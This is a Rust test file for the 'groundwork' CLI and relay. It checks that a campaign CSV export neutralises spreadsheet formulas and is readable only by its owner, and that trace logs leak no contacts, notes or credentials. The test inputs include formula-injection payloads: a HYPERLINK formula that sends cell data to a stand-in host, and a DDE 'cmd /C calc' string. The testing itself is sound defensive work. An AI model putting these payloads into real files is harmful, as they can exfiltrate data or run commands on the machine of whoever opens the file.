//! What a device writes out of itself, through the real CLI and relay: the campaign's CSV,
//! which a spreadsheet opens (formulas shown as text, the file its owner's alone), and its log
//! at the most verbose level, which must hold no contact, note or credential.

use std::process::{Command, Output};

use groundwork_tests::{Device, Relay, Res, bin, field};

/// `groundwork-relay staff ...` against the running relay's data directory.
fn staff(relay: &Relay, args: &[&str]) -> Res<()> {
    let out = Command::new(bin("groundwork-relay"))
        .arg("--data")
        .arg(&relay.data)
        .arg("staff")
        .args(args)
        .output()?;
    if !out.status.success() {
        return Err(String::from_utf8_lossy(&out.stderr).into_owned().into());
    }
    Ok(())
}

/// The device's CLI with `--json`, started through `sh` with umask 022 (which would make a
/// new file 0644), or with its log at `trace`.
fn cli(device: &Device, args: &[&str], trace: bool) -> Res<Output> {
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg("umask 022; exec \"$0\" \"$@\"")
        .arg(bin("groundwork"))
        .arg("--data")
        .arg(&device.dir)
        .args(args)
        .arg("--json");
    if trace {
        c.env("GROUNDWORK_LOG", "trace").env("RUST_LOG", "trace");
    }
    let out = c.output()?;
    if !out.status.success() {
        return Err(format!("{args:?}: {}", String::from_utf8_lossy(&out.stderr)).into());
    }
    Ok(out)
}

#[cfg(unix)]
#[test]
fn the_campaign_export_shows_formulas_as_text_in_a_file_only_its_owner_can_read() -> Res<()> {
    use std::os::unix::fs::PermissionsExt;
    let root = tempfile::tempdir()?;
    let relay = Relay::start(&root.path().join("relay"))?;
    let url = relay.url();
    let lead = Device::new(root.path(), "lead")?;
    let name = "=HYPERLINK(\"http://x/?\"&J3&K3, \"open\")";
    let group_name = "@SUM(1+1)";
    let conditions = "+cmd|' /C calc'!A0";
    let legal_basis = "-2+3";
    let group = field(
        &lead.run(&["group", "create", "--name", group_name])?,
        "group_id",
    )?;
    let target = field(
        &lead.run(&[
            "target", "add", &group, "--county", "48453", "--office", "sheriff", "--name", name,
        ])?,
        "target_id",
    )?;
    lead.run(&[
        "response",
        "record",
        &group,
        "--target",
        &target,
        "--rule",
        "R1",
        "--existing",
        "none",
        "--position",
        "supports-with-changes",
        &format!("--conditions={conditions}"),
        &format!("--legal-basis={legal_basis}"),
    ])?;
    lead.sync(&relay)?;
    let organizer = Device::new(root.path(), "organizer")?;
    staff(&relay, &["add", &organizer.id()?])?;

    let csv = root.path().join("matrix.csv");
    cli(
        &organizer,
        &[
            "campaign",
            "export",
            "--csv",
            &csv.to_string_lossy(),
            "--relay",
            &url,
        ],
        false,
    )?;
    let mut reader = csv::Reader::from_path(&csv)?;
    let header = reader.headers()?.clone();
    let col = |h: &str| header.iter().position(|c| c == h).ok_or(h.to_owned());
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
    assert_eq!(rows.len(), 1, "{rows:?}");
    let row = &rows[0];
    for (column, planted) in [
        ("name", name),
        ("reported_by", group_name),
        ("conditions", conditions),
        ("legal_basis", legal_basis),
    ] {
        assert_eq!(&row[col(column)?], format!("'{planted}"), "{column}");
    }
    assert_eq!(&row[col("official_key")?], "48453/sheriff");
    assert_eq!(std::fs::metadata(&csv)?.permissions().mode() & 0o777, 0o600);
    Ok(())
}

/// The bytes of `marker` as a log could show them: as they are, or in hex (a WebSocket
/// frame's `Display`).
fn shows(log: &str, marker: &str) -> bool {
    let hex: String = marker.bytes().map(|b| format!("{b:02x}")).collect();
    log.contains(marker) || log.to_lowercase().contains(&hex)
}

#[test]
fn a_device_logging_at_trace_logs_no_contact_note_or_credential() -> Res<()> {
    let root = tempfile::tempdir()?;
    let relay = Relay::start(&root.path().join("relay"))?;
    let url = relay.url();
    let lead = Device::new(root.path(), "lead")?;
    let name = "Zqx-Contact-Name-Marker";
    let note = "Zqx contact note marker";
    let notes = "Zqx meeting notes marker";
    let group = field(&lead.run(&["group", "create", "--name", "G"])?, "group_id")?;
    lead.run(&[
        "contact",
        "log",
        &group,
        "--result",
        "talked",
        "--consent",
        "--name",
        name,
        "--note",
        note,
    ])?;
    let meeting = field(
        &lead.run(&[
            "meeting",
            "create",
            &group,
            "--kind",
            "organizing",
            "--title",
            "T",
        ])?,
        "meeting_id",
    )?;
    lead.run(&["meeting", "notes", &meeting, "--append", notes])?;

    // Sending: the lead's first sync, at trace.
    let mut log = String::new();
    let sent = cli(&lead, &["sync", "--relay", &url, "--once"], true)?;
    log.push_str(&String::from_utf8(sent.stderr)?);
    // Receiving: another device of the lead's joins and syncs, at trace.
    let phone = Device::new(root.path(), "phone")?;
    let code = field(
        &lead.run(&["invite", "own-device", &group, "--relay", &url])?,
        "code",
    )?;
    let joined = cli(&phone, &["join", &code, "--relay", &url], true)?;
    log.push_str(&String::from_utf8(joined.stderr)?);
    let received = cli(&phone, &["sync", "--relay", &url, "--once"], true)?;
    log.push_str(&String::from_utf8(received.stderr)?);

    // The content did travel, and the log was verbose.
    let contacts = phone.run(&["contact", "list", &group])?;
    assert_eq!(contacts["items"][0]["name"], name, "{contacts}");
    assert!(log.contains("DEBUG"), "the log was not verbose:\n{log}");
    for marker in [name, note, notes] {
        assert!(!shows(&log, marker), "{marker:?} is in the log:\n{log}");
    }
    // Nor the connection proof the device signs into its handshake.
    assert!(
        !log.contains("sig="),
        "the connection proof is in the log:\n{log}"
    );
    Ok(())
}
